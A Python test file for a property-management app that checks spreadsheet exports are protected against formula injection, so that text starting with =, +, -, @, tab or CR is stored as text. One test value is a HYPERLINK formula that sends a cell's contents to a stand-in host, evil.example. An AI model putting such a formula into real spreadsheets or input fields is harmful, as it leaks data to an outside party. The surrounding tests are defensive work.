"""Formula injection (CWE-1236): every workbook the product writes puts its cells through
core.xlsx.safe_cell, so text starting with =, +, -, @, tab or CR is text (not a formula) when
read back, and numbers stay numbers."""

from __future__ import annotations

import io
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from propdesk.community import tabular
from propdesk.community.selectors import household_export_rows
from propdesk.community.services import household_import
from propdesk.core.xlsx import is_formula_like, safe_row

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'


def formulas_in(data: bytes) -> list[str]:
    """The <f> (formula) elements of every sheet of a workbook, from its XML."""
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return [
            name
            for name in z.namelist()
            if name.startswith("xl/worksheets/") and b"<f>" in z.read(name)
        ]


@pytest.mark.parametrize(
    ("value", "formula_like"),
    [
        ("=1+1", True),
        ("+8613812345678", True),
        ("-2", True),
        ("@SUM(A1)", True),
        ("\t=1", True),
        ("\r=1", True),
        ("张伟", False),
        ("a=b", False),
        (-2, False),
        (3.5, False),
        (None, False),
    ],
)
def test_what_counts_as_formula_like(value: object, formula_like: bool) -> None:
    assert is_formula_like(value) is formula_like


@pytest.mark.parametrize("write_only", [False, True])
def test_safe_row_keeps_text_as_text_and_numbers_as_numbers(write_only: bool) -> None:
    wb = Workbook(write_only=write_only)
    sheet = wb.create_sheet("s")
    sheet.append(safe_row(sheet, [HYPERLINK, "-5", -5, 2.5, "普通文字", None]))
    out = io.BytesIO()
    wb.save(out)
    data = out.getvalue()
    assert formulas_in(data) == []
    cells = load_workbook(io.BytesIO(data))["s"][1]
    assert [(c.value, c.data_type) for c in cells[:5]] == [
        (HYPERLINK, "s"),
        ("-5", "s"),
        (-5, "n"),
        (2.5, "n"),
        ("普通文字", "s"),
    ]
    assert cells[0].quotePrefix and cells[1].quotePrefix and not cells[4].quotePrefix


def test_an_owner_named_like_a_formula_is_exported_as_text(office, clock) -> None:
    rows = [tabular.SheetRow(2, {"房号": "4-1-101", "姓名": HYPERLINK, "身份": "业主"})]
    assert household_import(
        community=office.community, by=office.head, now=clock.now(), rows=rows
    ).ok
    data = tabular.household_file(
        household_export_rows(office.head, office.community.pk), fmt="xlsx"
    )
    assert formulas_in(data) == []
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    owner = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == "4-1-101")
    assert (owner[2].value, owner[2].data_type, owner[2].quotePrefix) == (HYPERLINK, "s", True)


def test_figures_are_numbers_with_their_number_formats_and_text_stays_safe() -> None:
    """Percentages, counts and money go into a workbook as numbers with number formats (0.0%,
    0, ¥#,##0.00), never as text; no data is an empty cell; formula-like text is still text."""
    from decimal import Decimal

    from propdesk.core.xlsx import count, money, percent

    wb = Workbook()
    ws = wb.active
    assert ws is not None
    ws.append(
        safe_row(ws, [percent(Decimal("83.3")), count(20), money(Decimal("45")), percent(None)])
    )
    ws.append(safe_row(ws, ["=1+1", Decimal("2.5")]))
    out = io.BytesIO()
    wb.save(out)

    back = load_workbook(io.BytesIO(out.getvalue())).active
    cells = [back.cell(1, c) for c in range(1, 5)]
    assert [(c.value, c.data_type, c.number_format) for c in cells[:3]] == [
        (0.833, "n", "0.0%"),
        (20, "n", "0"),
        (45, "n", "¥#,##0.00"),
    ]
    assert cells[3].value is None
    assert (back["A2"].value, back["A2"].data_type) == ("=1+1", "s")
    assert formulas_in(out.getvalue()) == []
    assert (str(percent(Decimal("83.3"))), str(percent(96)), str(count(3))) == ("83.3%", "96%", "3")
    assert (str(money(Decimal("1234.5"))), str(percent(None))) == ("¥1,234.50", "—")
